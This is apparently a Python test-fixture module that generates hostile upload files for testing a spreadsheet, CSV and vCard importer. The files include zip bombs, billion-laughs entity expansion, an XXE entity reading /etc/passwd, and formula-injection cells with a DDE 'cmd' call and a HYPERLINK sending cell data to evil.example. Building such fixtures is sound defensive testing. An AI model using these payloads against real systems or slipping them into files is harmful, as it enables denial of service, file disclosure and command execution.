"""Files that mean harm: small on the wire, endless inside, or not what they say."""

import struct
from collections.abc import Callable

from tests.files.making import csv, packed, xls, xlsx

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MILLION = 1_000_000
MEGABYTE = 1024 * 1024


def workbook(sheet: str, strings: str = "", sheets: int = 1, head: str = "") -> dict[str, str | bytes]:
    """The parts of an XLSX with one sheet's XML as given."""
    numbers = range(1, sheets + 1)
    listed = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="rId{number}"/>' for number in numbers)
    related = "".join(
        f'<Relationship Id="rId{number}" Type="{_OFFICE}/worksheet" Target="worksheets/sheet{number}.xml"/>'
        for number in numbers
    )
    shared = f'<Relationship Id="rId0" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/>' if strings else ""
    root = f'<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}">{root}</Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}">{related}{shared}</Relationships>',
    }
    body = f'{head}<worksheet xmlns="{_MAIN}"><sheetData>{sheet}</sheetData></worksheet>'
    parts |= {f"xl/worksheets/sheet{number}.xml": body for number in numbers}
    if strings:
        parts["xl/sharedStrings.xml"] = f'<sst xmlns="{_MAIN}">{strings}</sst>'
    return parts


def far_cell() -> bytes:
    """4 KB that claim seventeen thousand million cells."""
    cell = '<row r="{0}"><c r="{1}{0}" t="inlineStr"><is><t>x</t></is></c></row>'
    return packed(workbook(cell.format(1, "A") + cell.format(1_048_576, "XFD")))


def bomb() -> bytes:
    """355 MB of XML in a few megabytes."""
    cell = '<c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></is></c>'
    return packed(workbook("<row>" + cell * (355_000_000 // len(cell)) + "</row>"), level=1)


def lying_bomb() -> bytes:
    """A bomb whose directory says that it is small."""
    content = bytearray(packed(workbook("<row>" + "<c><v>1</v></c>" * 15_000_000 + "</row>"), level=1))
    place = content.rfind(b"xl/worksheets/sheet1.xml") - 46
    content[place + 24 : place + 28] = struct.pack("<I", 1_000)
    return bytes(content)


def many_strings() -> bytes:
    strings = "".join(f"<si><t>строка номер {number}</t></si>" for number in range(MILLION))
    rows = "".join(
        f'<row r="{number + 1}"><c r="A{number + 1}" t="s"><v>{number}</v></c></row>' for number in range(100)
    )
    return packed(workbook(rows, strings))


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]>'
    return packed(workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row>', head=head))


def outside_entity() -> bytes:
    head = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    return packed(workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t></is></c></row>', head=head))


def locked() -> bytes:
    """What Office makes of a workbook with a password: an old container with the whole of it encrypted."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(4096)


def endless_quote() -> bytes:
    return b'name;phone\n"' + b"a;b\n" * 2_000_000


def tall() -> bytes:
    """As many empty rows as a sheet can have."""
    return packed(workbook("".join(f'<row r="{number}"/>' for number in range(1, 1_048_577))))


def nested() -> bytes:
    """Nothing but elements within elements, never closed."""
    return packed(workbook("<row><c>" + "<is>" * MILLION))


def formulas() -> bytes:
    """Formulas that call programs, links that tell others, with the values that somebody claims they have."""
    cell = '<row r="{0}"><c r="A{0}" t="str"><f>{1}</f><v>{2}</v></c></row>'
    told = ("cmd|' /C calc'!A0", "HYPERLINK(&quot;https://evil.example/&quot;&amp;A1)", "WEBSERVICE(A1)", "A1:A1048576")
    rows = "".join(cell.format(number, formula, f"Ромашка {number}") for number, formula in enumerate(told, 2))
    return packed(workbook('<row r="1"><c r="A1" t="str"><v>Имя</v></c></row>' + rows))


def photo() -> bytes:
    """A contact of a phone with a picture of fifteen megabytes."""
    picture = "\r\n ".join(["/9j/" + "A" * 70] * (15 * MEGABYTE // 77))
    card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Анна\r\nTEL:+79123456789\r\nPHOTO;ENCODING=b:{picture}\r\nEND:VCARD\r\n"
    return card.encode()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "far_cell.xlsx": far_cell,
    "bomb.xlsx": bomb,
    "lying_bomb.xlsx": lying_bomb,
    "strings.xlsx": many_strings,
    "laughs.xlsx": laughs,
    "entity.xlsx": outside_entity,
    "locked.xlsx": locked,
    "sheets.xlsx": lambda: packed(workbook("", sheets=200)),
    "quote.csv": endless_quote,
    "many_rows.csv": lambda: b"a;b\n" * 60_000,
    "picture.xlsx": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
    "document.xlsx": lambda: packed({"word/document.xml": "<w/>", "[Content_Types].xml": _TYPES}),
    "torn.xlsx": lambda: xlsx(("A", [["Имя"], ["Ромашка"]]))[:-200],
    "noise.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 64,
    "empty.csv": lambda: b" \r\n\r\n",
    "tall.xlsx": tall,
    "nested.xlsx": nested,
    "formulas.xlsx": formulas,
    "photo.vcf": photo,
    "line.csv": lambda: b"x" * (20 * MEGABYTE),
    "separators.csv": lambda: b";" * (20 * MEGABYTE),
    "program.xlsx": lambda: b"MZ\x90\0" + bytes(range(256)) * 4_000,
    "torn.xls": lambda: xls([["Имя", "Телефон"], ["Ромашка", "89210000001"]])[:2048],
    "empty.xlsx": lambda: xlsx(("A", [])),
    "deep.csv": lambda: csv([["x" * 200_000] * 10] * 5),
    "page.xls": lambda: b"<html><table>" + b"<tr><td>a</td>" * 400_000,
}
